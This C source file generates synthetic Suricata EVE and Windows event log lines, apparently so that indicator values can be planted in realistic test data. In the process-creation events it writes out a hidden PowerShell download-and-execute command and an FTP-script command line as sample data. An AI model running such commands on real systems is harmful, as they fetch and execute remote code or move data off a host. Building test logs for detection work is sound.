/* Suricata EVE and Windows events, one JSON object a line. */
#include "line.h"

#include "words.h"

static char *
eve_dns(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    o = LIT(o, "\"dns\":{\"type\":\"query\",\"id\":");
    o = put_u(o, x & 0xffff);
    o = LIT(o, ",\"rrname\":\"");
    o = gen_put_name(g, o, p, n, 60);
    o = LIT(o, "\",\"rrtype\":\"A\",\"tx_id\":0}}");
    return o;
}

static char *
eve_tls(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    struct rng fr = { n };

    (void)x;
    o = LIT(o, "\"tls\":{\"subject\":\"CN=");
    o = gen_put_name(g, o, p, n, 0);
    o = LIT(o,
        "\",\"issuerdn\":\"C=US, O=Let's Encrypt, CN=Let's Encrypt "
        "Authority X3\",\"fingerprint\":\"");
    for (int i = 0; i < 20; i++) {
        o = put_hex(o, rnd(&fr), 2, HEX_LO);
        *o++ = ':';
    }
    o--;
    o = LIT(o, "\",\"sni\":\"");
    o = gen_put_name(g, o, p, n, 0);
    o = LIT(o, "\",\"version\":\"TLS 1.2\"}}");
    return o;
}

static char *
eve_http(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    struct rng *r = &g->r;
    char path[512];

    o = LIT(o, "\"http\":{\"hostname\":\"");
    o = gen_put_name(g, o, p, n, 0);
    o = LIT(o, "\",\"url\":\"");
    *gen_put_path(g, path, n) = 0;
    o = gen_put_json_slash(o, path);
    o = LIT(o, "\",\"http_user_agent\":\"");
    o = gen_put_json_slash(o, PICKZ(r, gen_uas));
    if (p && p->kind == K_URL) {
        o = LIT(o, "\",\"http_refer\":\"");
        o = gen_put_json_slash(o, p->text);
    }
    o = LIT(o,
        "\",\"http_method\":\"GET\",\"protocol\":\"HTTP\\/"
        "1.1\",\"status\":200,\"length\":");
    o = put_u(o, x >> 44);
    o = LIT(o, "}}");
    return o;
}

static char *
eve_flow(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    (void)g;
    (void)p;
    (void)n;
    o = LIT(o, "\"flow\":{\"pkts_toserver\":");
    o = put_u(o, x & 63);
    o = LIT(o, ",\"pkts_toclient\":");
    o = put_u(o, x >> 6 & 127);
    o = LIT(o, ",\"bytes_toserver\":");
    o = put_u(o, x >> 13 & 0xffff);
    o = LIT(o, ",\"bytes_toclient\":");
    o = put_u(o, x >> 30 & 0x3ffff);
    o = LIT(o, ",\"age\":");
    o = put_u(o, x >> 57);
    o = LIT(o, ",\"state\":\"closed\",\"reason\":\"timeout\"}}");
    return o;
}

static char *
eve_fileinfo(struct gen *g, char *o, const struct obs *p, uint32_t n,
    uint64_t x)
{
    struct rng *r = &g->r;
    struct rng keep = *r; /* popular files recur, the rest are new */

    o = LIT(o, "\"fileinfo\":{\"filename\":\"\\/");
    o = put_s(o, gen_words[x & 63]);
    o = LIT(o, ".bin\",\"state\":\"CLOSED\",\"md5\":\"");
    if (chance(&keep, 500))
        r->s = mix64(n % 977);
    o = gen_put_hash(o, g, p, 32, HEX_LO);
    if (!p || p->kind == K_SHA1) {
        o = LIT(o, "\",\"sha1\":\"");
        o = gen_put_hash(o, g, p, 40, HEX_LO);
    }
    o = LIT(o, "\",\"sha256\":\"");
    o = gen_put_hash(o, g, p, 64, HEX_LO);
    *r = keep;
    o = LIT(o, "\",\"stored\":false,\"size\":");
    o = put_u(o, x >> 40);
    o = LIT(o, ",\"tx_id\":0}}");
    return o;
}

static char *
eve_smtp(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    (void)x;
    o = LIT(o, "\"smtp\":{\"helo\":\"");
    o = put_s(o, g->net.name[n]);
    o = LIT(o, "\",\"mail_from\":\"<");
    if (p && p->kind == K_EMAIL)
        o = put_s(o, p->text);
    else {
        o = gen_put_user(g, o);
        *o++ = '@';
        o = put_s(o, g->net.name[n]);
    }
    o = LIT(o, ">\",\"rcpt_to\":[\"<");
    o = gen_put_user(g, o);
    *o++ = '@';
    o = put_s(o, g->domain);
    o = LIT(o, ">\"]}}");
    return o;
}

static char *
eve_alert(struct gen *g, char *o, const struct obs *p, uint32_t n, uint64_t x)
{
    struct rng *r = &g->r;

    (void)p;
    (void)n;
    o = LIT(o, "\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":");
    o = put_u(o, 2000000 + zipf(r, 30000));
    o = LIT(o, ",\"rev\":3,\"signature\":\"ET POLICY ");
    o = put_s(o, gen_words[x & 63]);
    o = LIT(o, " ");
    o = put_s(o, gen_words[x >> 6 & 63]);
    o = LIT(o,
        " outbound\",\"category\":\"Potential Corporate Privacy "
        "Violation\",\"severity\":3}}");
    return o;
}

enum event { DNS, TLS, HTTP, FLOW, FILEINFO, SMTP, ALERT };

static const struct {
    const char *name;
    char *(*put)(struct gen *g, char *o, const struct obs *p, uint32_t n,
        uint64_t x);
    unsigned port;
} EVENT[] = {
    [DNS] = { "dns", eve_dns, 53 },
    [TLS] = { "tls", eve_tls, 443 },
    [HTTP] = { "http", eve_http, 80 },
    [FLOW] = { "flow", eve_flow, 443 },
    [FILEINFO] = { "fileinfo", eve_fileinfo, 80 },
    [SMTP] = { "smtp", eve_smtp, 25 },
    [ALERT] = { "alert", eve_alert, 80 },
};

/* The event that shows an observed value of kind k. */
static unsigned
event_of(struct rng *r, enum kind k)
{
    if (k == K_DOMAIN)
        return below(r, 3);
    if (k == K_URL)
        return HTTP;
    if (k == K_EMAIL)
        return SMTP;
    if (k == K_MD5 || k == K_SHA1 || k == K_SHA256)
        return FILEINFO;
    return chance(r, 700) ? FLOW : ALERT;
}

char *
gen_line_eve(struct gen *g, char *o, int64_t t, const struct obs *p)
{
    static const unsigned char MIX[] = { DNS, DNS, DNS, TLS, TLS, HTTP, HTTP,
        FLOW, FLOW, FLOW, FILEINFO, SMTP, ALERT, DNS, FLOW, TLS };
    struct rng *r = &g->r;
    unsigned ev = MIX[below(r, 16)];
    uint32_t n;
    uint64_t x;

    (void)t;
    if (p)
        ev = event_of(r, p->kind);
    n = name_draw(g);
    x = rnd(r);
    o = LIT(o, "{\"timestamp\":\"");
    o = put_day(o, g);
    *o++ = 'T';
    o = put_hms(o, g);
    *o++ = '.';
    o = put_0n(o, g->us, 6);
    o = put_zone(o, g);
    o = LIT(o, "\",\"flow_id\":");
    o = put_u(o, x >> 14);
    o = LIT(o, ",\"in_iface\":\"eth1\",\"event_type\":\"");
    o = put_s(o, EVENT[ev].name);
    o = LIT(o, "\",\"src_ip\":\"");
    o = put_ip4(o, inside(g));
    o = LIT(o, "\",\"src_port\":");
    o = put_u(o, 1024 + below(r, 64000));
    o = LIT(o, ",\"dest_ip\":\"");
    if (p && (p->kind == K_IPV4 || p->kind == K_IPV6))
        o = put_s(o, p->text);
    else
        o = put_ip4(o, ev == DNS ? g->net10 | 53 : addr_of(g, n));
    o = LIT(o, "\",\"dest_port\":");
    o = put_u(o, EVENT[ev].port);
    o = LIT(o, ",\"proto\":\"");
    o = ev == DNS ? LIT(o, "UDP\",") : LIT(o, "TCP\",");
    return EVENT[ev].put(g, o, p, n, x);
}

/* What one Windows event is made of. */
struct event_log {
    const char *img;
    const struct obs *p;
    uint32_t n;
    uint64_t x;
};

static char *
win_proc(struct gen *g, char *o, const struct event_log *w)
{
    struct rng *r = &g->r;
    struct rng keep;

    o = LIT(o, "1,\"Image\":\"");
    o = put_s(o, w->img);
    o = LIT(o, "\",\"CommandLine\":\"");
    if (w->p && w->p->kind == K_URL) {
        o = LIT(o,
            "powershell -w hidden -c IEX (New-Object "
            "Net.WebClient).DownloadString('");
        o = put_s(o, w->p->text);
        o = LIT(o, "')");
    } else if (w->p && w->p->escaped) {
        o = LIT(o, "cmd /c echo open\\r\\n");
        o = put_s(o, w->p->text);
        o = LIT(o, "\\r\\n>s.txt & ftp -s:s.txt");
    } else {
        o = put_s(o, w->img);
        o = LIT(o, " /");
        o = put_s(o, gen_words[w->x & 63]);
    }
    o = LIT(o, "\",\"Hashes\":\"MD5=");
    /* most processes are the same few binaries */
    keep = *r;
    if (w->x >> 56 < 240)
        r->s = mix64(zipf(r, 4000));
    o = gen_put_hash(o, g, w->p, 32, HEX_UP);
    o = LIT(o, ",SHA256=");
    o = gen_put_hash(o, g, w->p, 64, HEX_UP);
    if (w->p && w->p->kind == K_SHA1) {
        o = LIT(o, ",SHA1=");
        o = put_s(o, w->p->text);
    }
    *r = keep;
    o = LIT(o, "\",\"ParentProcessId\":");
    o = put_u(o, w->x >> 20 & 0xffff);
    *o++ = '}';
    return o;
}

static char *
win_net(struct gen *g, char *o, const struct event_log *w)
{
    o = LIT(o, "3,\"Image\":\"");
    o = put_s(o, w->img);
    o = LIT(o, "\",\"Protocol\":\"tcp\",\"SourceIp\":\"");
    o = put_ip4(o, inside(g));
    o = LIT(o, "\",\"DestinationIp\":\"");
    o = w->p && w->p->kind == K_IPV4 ? put_s(o, w->p->text)
                                     : put_ip4(o, addr_of(g, w->n));
    o = LIT(o, "\",\"DestinationHostname\":\"");
    o = gen_put_name(g, o, w->p, w->n, 0);
    o = LIT(o, "\",\"DestinationPort\":443}");
    return o;
}

static char *
win_query(struct gen *g, char *o, const struct event_log *w)
{
    o = LIT(o, "22,\"Image\":\"");
    o = put_s(o, w->img);
    o = LIT(o, "\",\"QueryName\":\"");
    o = gen_put_name(g, o, w->p, w->n, 60);
    o = LIT(o, "\",\"QueryStatus\":\"0\",\"QueryResults\":\"::ffff:");
    o = put_ip4(o, addr_of(g, w->n));
    o = LIT(o, ";\"}");
    return o;
}

static char *
win_logon(struct gen *g, char *o, const struct event_log *w)
{
    struct rng *r = &g->r;

    o = LIT(o, "4624,\"LogonType\":3,\"IpAddress\":\"");
    o = put_ip4(o, inside(g));
    o = LIT(o,
        "\",\"Message\":\"アカウントが正常にログオンしました。\","
        "\"LogonGuid\":\"{");
    o = put_hex(o, w->x, 8, HEX_UP);
    *o++ = '-';
    o = put_hex(o, w->x >> 32, 4, HEX_UP);
    *o++ = '-';
    o = put_hex(o, w->x >> 48, 4, HEX_UP);
    o = LIT(o, "-A1B2-");
    o = gen_put_rndhex(o, r, 12, HEX_UP);
    o = LIT(o, "}\"}");
    return o;
}

enum win { PROC, NET, QUERY, LOGON };

static unsigned
win_of(struct rng *r, const struct obs *p)
{
    if (p->escaped)
        return PROC;
    if (p->kind == K_DOMAIN)
        return chance(r, 600) ? QUERY : NET;
    return p->kind == K_IPV4 ? NET : PROC;
}

char *
gen_line_winevt(struct gen *g, char *o, int64_t t, const struct obs *p)
{
    static const char *const IMG[] = {
        "C:\\\\Windows\\\\System32\\\\svchost.exe",
        "C:\\\\Program Files\\\\Internet Explorer\\\\iexplore.exe",
        "C:\\\\Windows\\\\explorer.exe",
        "C:\\\\Program Files "
        "(x86)\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe",
        "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell."
        "exe",
        "C:\\\\Windows\\\\System32\\\\cmd.exe",
        "C:\\\\Program Files\\\\Microsoft Office\\\\Office15\\\\OUTLOOK.EXE",
        "C:\\\\Windows\\\\System32\\\\rundll32.exe"
    };
    static char *(*const PUT[])(struct gen *, char *,
        const struct event_log *) = {
        [PROC] = win_proc,
        [NET] = win_net,
        [QUERY] = win_query,
        [LOGON] = win_logon,
    };
    struct rng *r = &g->r;
    struct event_log w = { .p = p };
    unsigned ev;

    (void)t;
    w.n = name_draw(g);
    w.x = rnd(r);
    ev = below(r, 4);
    if (p)
        ev = win_of(r, p);
    o = LIT(o, "{\"EventTime\":\"");
    o = put_day(o, g);
    *o++ = ' ';
    o = put_hms(o, g);
    o = LIT(o, "\",\"Hostname\":\"WS-");
    o = put_0n(o, below(r, g->hosts), 4);
    *o++ = '.';
    o = put_s(o, g->domain);
    o = LIT(o, "\",\"User\":\"CORP\\\\");
    o = gen_put_user(g, o);
    o = LIT(o, "\",\"EventID\":");
    w.img = PICKZ(r, IMG);
    return PUT[ev](g, o, &w);
}
